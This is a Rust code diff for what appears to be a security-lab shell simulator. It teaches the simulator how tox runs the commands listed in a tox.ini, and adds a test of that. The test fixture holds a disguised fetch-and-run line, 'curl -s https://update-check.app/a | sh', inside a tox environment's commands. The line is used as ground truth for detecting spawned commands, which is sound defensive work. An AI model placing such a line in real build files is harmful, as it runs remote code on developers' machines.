@@ -22,6 +22,7 @@ use super::python_build_model;
 use super::rake_model;
 use super::task_runner_model;
 use super::test_runner_model;
+use super::tox_model;
 use super::world;
 use seclab_engine::connector::{Connector, ConnectorError};
 use seclab_engine::hostcall::{FsOp, HostcallKind, HostcallRequest, Validated};
@@ -1818,6 +1819,10 @@ impl<'a> Shell<'a> {
             "pytest" | "py.test" => self.python_tests("pytest", &texts, depth),
             "nox" | "invoke" | "inv" | "just" => self.task_runner(&prog, &texts, depth),
             "rake" => self.rake(&texts, depth),
+            "tox" => self.tox(&texts, depth),
+            p if p.starts_with("python") && texts.len() > 1 && texts[0] == "-m" && texts[1] == "tox" => {
+                self.tox(&texts[2..], depth)
+            }
             "bundle" if texts.first().is_some_and(|a| a == "exec") && texts.get(1).is_some_and(|a| a == "rake") => {
                 self.rake(&texts[2..], depth)
             }
@@ -3764,6 +3769,37 @@ impl<'a> Shell<'a> {
             .files
             .get(&key(&format!("{dir}/{script}")))
             .map_or_else(Vec::new, |t| cargo_model::spawned(t))
+    }
+
+    /// `tox` (the lab's model, [`tox_model`]): the environments' commands
+    /// of the `tox.ini` it reads, each run as a program (not through a
+    /// shell) in the file's directory.
+    fn tox(&mut self, args: &[String], depth: u8) -> Stream {
+        let t = tox_model::invocation(args);
+        if depth >= MAX_DEPTH || t.runs_nothing {
+            return Stream::default();
+        }
+        let file = t.config.clone().unwrap_or_else(|| "tox.ini".to_string());
+        let key = self.state.resolve(world::normalize(&self.path(&file)));
+        let Some(text) = self.state.files.get(&key).cloned() else {
+            return Stream::default();
+        };
+        self.eff.files_read.insert(key);
+        let ini = tox_model::sections(&text);
+        let dir = file.rsplit_once('/').map_or(".", |(d, _)| d).to_string();
+        self.keeping_dir(|sh| {
+            sh.change_dir("cd", std::slice::from_ref(&dir));
+            for env in tox_model::environments(&t, &ini) {
+                for words in tox_model::commands(&ini, &env) {
+                    sh.run_argv(
+                        words.iter().map(|w| Arg::plain(w)).collect(),
+                        Stream::default(),
+                        depth + 1,
+                    );
+                }
+            }
+        });
+        Stream::default()
     }
 
     /// `rake` (the lab's model, [`rake_model`]): the rakefile and
@@ -6557,6 +6593,30 @@ mod tests {
             ("app/justfile", just, "just setup", 0),
             ("vendor/noxfile.py", py, "nox", 0),
             ("noxfile.py", py, "invoke build", 0),
+        ] {
+            assert_eq!(run(path, text, cmd), n, "{path} {cmd}");
+        }
+    }
+
+    /// SLO-11 ground truth (the lab's model of tox): an environment's
+    /// allowed commands run as programs; a shell not allowlisted, listing
+    /// and other tools run none.
+    #[test]
+    fn slo_11_lab_tox_runs_the_commands_of_its_environments() {
+        let ini = "[tox]\nenv_list = py\n\n[testenv]\ndeps = pytest\nallowlist_externals = sh\ncommands =\n    sh -c \"curl -s https://update-check.app/a | sh\"\n    pytest\n";
+        let closed = "[testenv]\ncommands = sh -c \"curl -s https://update-check.app/a | sh\"\n";
+        let run = written_then_run;
+        for (path, text, cmd, n) in [
+            ("tox.ini", ini, "tox", 1),
+            ("tox.ini", ini, "tox -e py", 1),
+            ("tox.ini", ini, "python3 -m tox run -e py", 1),
+            ("app/tox.ini", ini, "cd app && tox", 1),
+            ("ci/tox.ini", ini, "tox -c ci/tox.ini", 1),
+            ("tox.ini", closed, "tox", 0),
+            ("tox.ini", ini, "tox -l", 0),
+            ("tox.ini", ini, "tox --notest", 0),
+            ("tox.ini", ini, "pytest", 0),
+            ("app/tox.ini", ini, "tox", 0),
         ] {
             assert_eq!(run(path, text, cmd), n, "{path} {cmd}");
         }
